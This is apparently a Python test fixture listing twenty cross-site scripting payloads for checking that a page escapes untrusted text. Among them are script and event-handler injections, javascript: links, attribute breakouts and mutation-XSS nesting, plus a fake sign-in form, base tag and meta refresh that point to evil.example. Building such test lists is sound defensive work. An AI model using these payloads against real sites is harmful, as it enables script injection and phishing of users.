"""Texts that would run a script where a page took them for markup; each leaves `data-xss` or an address."""

TEXTS = (
    "<script data-xss>alert(1)</script>",
    "<img data-xss src=x onerror=alert(1)>",
    "<svg data-xss onload=alert(1)>",
    '"><b data-xss onmouseover=alert(1)>x</b>',
    "'><i data-xss onclick=alert(1)>x</i>",
    "<iframe data-xss srcdoc='<script>alert(1)</script>'></iframe>",
    "</title><script data-xss>alert(1)</script>",
    "</textarea><script data-xss>alert(1)</script>",
    "</pre></code></mark><u data-xss>x</u>",
    "<a data-xss href='javascript:alert(1)'>x</a>",
    "javascript:alert(1)",
    "<style data-xss>body{display:none}</style>",
    "<form data-xss action=//evil.example><button>Sign in</button></form>",
    "<base data-xss href=//evil.example>",
    "<meta data-xss http-equiv=refresh content='0;url=//evil.example'>",
    "<!--><script data-xss>alert(1)</script-->",
    "<math data-xss><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "&lt;script data-xss&gt;alert(1)&lt;/script&gt;<u data-xss>",
    "{{ 7*7 }}{% raw %}<u data-xss>{% endraw %}",
    "<div data-xss hx-get='/audit' hx-trigger='load'>x</div>",
)
